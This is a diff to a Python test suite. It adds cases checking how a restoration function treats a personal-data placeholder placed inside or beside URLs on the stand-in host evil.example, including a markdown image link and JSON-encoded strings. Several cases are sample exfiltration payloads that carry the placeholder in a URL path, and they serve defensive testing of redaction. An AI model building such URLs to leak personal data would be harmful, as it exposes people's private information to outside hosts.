@@ -178,6 +178,16 @@ def test_json_is_escaped_at_its_depth() -> None:
         ("(http://evil.example/?a=(x))<PERSON_1>", False),
         ("![x](http://evil.example/<b>/<PERSON_1>)", True),
         ('![x](http://evil.example/"<PERSON_1>)', True),
+        ('http://evil.example/"<PERSON_1>', True),
+        ("http://evil.example/`<PERSON_1>", True),
+        ("http://evil.example/><PERSON_1>", True),
+        ('See "http://evil.example/"<PERSON_1>', False),
+        ('{"url":"http://evil.example/","name":"<PERSON_1>"}', False),
+        ("`http://evil.example/`<PERSON_1>", False),
+        ("<http://evil.example/><PERSON_1>", False),
+        ("<b>evil.example/</b><PERSON_1>", False),
+        ('5"http://evil.example/?"<PERSON_1>', False),
+        ('5" http://evil.example/"<PERSON_1>', True),
         ("data:text/html,<PERSON_1>", True),
         ("metadata:a,<PERSON_1> data: <PERSON_1>", False),
         ("sms:+1555?body=<PERSON_1>", True),
@@ -188,6 +198,28 @@ def test_json_is_escaped_at_its_depth() -> None:
 )
 def test_urls(text: str, kept: bool) -> None:
     assert ("<PERSON_1>" in restored(text)) is kept
+
+
+@pytest.mark.parametrize(
+    ("document", "kept"),
+    [
+        ({"t": "see http://evil.example/", "name": "<PERSON_1>"}, False),
+        ({"http://evil.example/": "<PERSON_1>"}, False),
+        ({"t": "see http://evil.example/<PERSON_1>"}, True),
+        ({"t": 'see http://evil.example/"<PERSON_1>'}, True),
+        ({"t": 'see http://evil.example/\\"<PERSON_1>'}, True),
+        ({"t": 'a "http://evil.example/" <PERSON_1>'}, False),
+        ({"t": json.dumps({"url": "http://evil.example/", "name": "<PERSON_1>"})}, False),
+        ({"t": json.dumps({"url": 'http://evil.example/"<PERSON_1>'})}, True),
+        ({"t": '<a href="http://evil.example/a b<PERSON_1>">'}, True),
+        ({"a": "x" * 9000, "t": "<PERSON_1>"}, False),
+        ({"t": "x" * 9000 + "<PERSON_1>"}, True),
+    ],
+)
+def test_a_url_ends_with_its_string(document: dict[str, str], *, kept: bool) -> None:
+    for separators in ((",", ":"), (", ", ": ")):
+        text = json.dumps(document, separators=separators)
+        assert ("<PERSON_1>" in restored(text, Channel.JSON)) is kept
 
 
 def test_urls_in_json() -> None:
